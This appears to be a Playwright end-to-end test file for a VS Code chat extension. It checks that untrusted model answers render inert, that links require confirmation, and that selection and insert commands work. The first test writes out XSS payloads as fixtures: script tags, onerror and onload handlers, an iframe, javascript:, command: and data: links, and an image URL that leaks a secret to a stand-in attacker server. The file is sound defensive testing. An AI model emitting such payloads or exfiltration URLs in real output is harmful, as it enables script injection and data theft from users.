import { strict as assert } from 'node:assert';
import type { FrameLocator, Page } from 'playwright-core';
import { SseServer } from '../support/sseServer';
import { DONE, sse } from '../fixtures/providers/build';
import { askAndWait, newChat, openChatView, openWorkbench, runCommand, writeMachineSettings } from './context';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

suite('untrusted model output, links, images and the editor, in the real workbench', () => {
  let page: Page;
  let frame: FrameLocator;
  let model: SseServer;
  /** Stands for an attacker's server: any request it receives is a leak. */
  let canary: SseServer;
  let answer = '';

  suiteSetup(async () => {
    model = await SseServer.start();
    model.setDefault(() => {
      // Split into small pieces so payloads also arrive cut across deltas.
      const pieces = answer.match(/[\s\S]{1,5}/g) ?? [];
      return { status: 200, headers: { 'content-type': 'text/event-stream' }, body: sse(...pieces.map((content) => ({ choices: [{ index: 0, delta: { content } }] })), { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }, DONE) };
    });
    canary = await SseServer.start();
    canary.setDefault({ status: 200, headers: { 'content-type': 'image/png' }, body: new Uint8Array(PNG) });
    writeMachineSettings({
      'switchboard.models': { fast: { endpoint: model.url, model: 'fast-1' } },
      'switchboard.chains': { chat: ['fast'], summarize: ['fast'], probe: ['fast'] },
    });
    page = await openWorkbench();
    frame = await openChatView(page);
    await newChat(frame);
  });

  suiteTeardown(async () => {
    writeMachineSettings({});
    await page?.close();
    await model?.close();
    await canary?.close();
  });

  const ask = (text: string) => askAndWait(frame, text);

  test('XSS payloads and a remote image in an answer render inert and fetch nothing until the user loads the image', async () => {
    const leak = `${canary.url}/leak.png?secret=abc`;
    answer = [
      'Here you go <script>window.top.pwned = 1</script> and <img src="' + leak + '" onerror="window.top.pwned = 2">',
      '', '<svg onload="window.top.pwned = 3"></svg> <iframe src="' + canary.url + '/frame"></iframe>',
      '', '[click me](javascript:window.top.pwned=4) [run](command:workbench.action.quit) [data](data:text/html,<script>alert(1)</script>)',
      '', `![chart](${leak})`, '',
    ].join('\n');
    await ask('show me');
    const last = frame.locator('[role="log"] [data-role="assistant"]').last();
    for (const selector of ['script', 'iframe', 'svg', 'object', 'embed', 'img', '[onerror]', '[onload]', 'a[href]']) {
      assert.equal(await last.locator(selector).count(), 0, `no ${selector} in the rendered answer`);
    }
    assert.match(await last.innerText(), /<script>window\.top\.pwned = 1<\/script>/, 'the raw HTML shows as text');
    assert.equal(await last.locator('.md-link').count(), 0, 'javascript:, command: and data: links are not links');
    await page.waitForTimeout(500);
    assert.equal(canary.requests.length, 0, `nothing was fetched from the remote host: ${canary.requests.map((r) => r.path).join(', ')}`);
    assert.equal(await frame.locator('body').evaluate(() => (window.top as unknown as { pwned?: number }).pwned ?? (window as unknown as { pwned?: number }).pwned), undefined);

    const load = last.getByRole('button', { name: /Load image from 127\.0\.0\.1/ });
    await load.click();
    await last.locator('img[src^="data:image/png;base64,"]').waitFor({ timeout: 10_000 });
    assert.equal(canary.requests.length, 1, 'the image was fetched once, by the extension, after the click');
    assert.equal(canary.requests[0].path, '/leak.png?secret=abc');
  });

  test('a link opens only through VS Code\'s confirmation of the external site', async () => {
    answer = 'See [the docs](https://docs.example.com/guide) for more.';
    await ask('where are the docs?');
    await frame.locator('[role="log"] [data-role="assistant"]').last().locator('.md-link', { hasText: 'the docs' }).click();
    const dialog = page.locator('.monaco-dialog-box');
    await dialog.waitFor({ state: 'visible', timeout: 10_000 });
    assert.match(await dialog.innerText(), /docs\.example\.com/);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    // The dialog is modal: the next test can type only once it is gone.
    await dialog.waitFor({ state: 'hidden', timeout: 10_000 });
  });

  test('"Add Selection to Chat" attaches the selection as a fenced block with its file and lines; Insert at Cursor writes code into the editor', async () => {
    // Drafts survive reloads: start from an empty box, whatever an earlier test left in it.
    await frame.getByRole('textbox', { name: 'Message' }).fill('');
    await page.keyboard.press('Control+P');
    const quick = page.locator('.quick-input-widget input');
    await quick.waitFor({ state: 'visible' });
    await quick.fill('fib.ts');
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'fib.ts' }).first().waitFor();
    await quick.press('Enter');
    const editor = page.locator('.editor-instance .monaco-editor').first();
    await editor.waitFor({ state: 'visible', timeout: 10_000 });
    await editor.click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.press('Shift+ArrowDown');
    await page.keyboard.press('Shift+ArrowDown');
    await runCommand(page, 'Switchboard: Add Selection to Chat');
    const box = frame.getByRole('textbox', { name: 'Message' });
    const deadline = Date.now() + 10_000;
    let draft = '';
    while (Date.now() < deadline && !draft.includes('```typescript')) {
      draft = await box.inputValue();
      await page.waitForTimeout(100);
    }
    assert.match(draft, /^fib\.ts:1-2\n```typescript\n\/\*\* Returns the n-th Fibonacci number/);
    assert.match(draft, /\n```\n$/);
    await box.fill('');

    answer = 'Use this:\n\n```ts\nexport const answer = 42;\n```\n';
    await ask('give me a constant');
    await editor.click();
    await page.keyboard.press('Control+End');
    await frame.locator('[role="log"] [data-role="assistant"]').last().getByRole('button', { name: 'Insert at Cursor' }).click();
    await page.locator('.editor-instance .view-lines', { hasText: 'export const answer = 42;' }).waitFor({ timeout: 10_000 });
    await runCommand(page, 'File: Revert File');
  });
});
